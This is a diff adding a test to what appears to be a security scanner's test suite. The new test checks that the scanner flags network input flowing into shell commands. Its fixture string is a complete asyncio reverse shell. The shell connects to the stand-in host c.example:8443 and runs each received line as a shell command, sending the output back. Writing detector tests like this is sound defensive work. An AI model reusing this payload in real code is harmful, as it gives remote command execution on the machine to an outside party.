@@ -156,3 +156,14 @@ def test_an_application_of_wsgi_runs_a_header(run: str) -> None:
     assert "code.flow header > command" in told(
         source.format(run.format("environ['HTTP_X_K']")), "pkg/__init__.py"
     )
+
+
+def test_a_loop_of_commands_that_needs_no_other_library_than_asyncio_is_read() -> None:
+    source = (
+        "import asyncio\nasync def go():\n    r, w = await asyncio.open_connection('c.example', 8443)\n"
+        "    while line := await r.readline():\n"
+        "        p = await asyncio.create_subprocess_shell(line.decode(), stdout=-1)\n"
+        "        w.write((await p.communicate())[0])\n"
+        "def words():\n    asyncio.run(go())\n"
+    )
+    assert {"net.connect c.example:8443", "code.flow network > command"} <= told(source, "pkg/__init__.py")
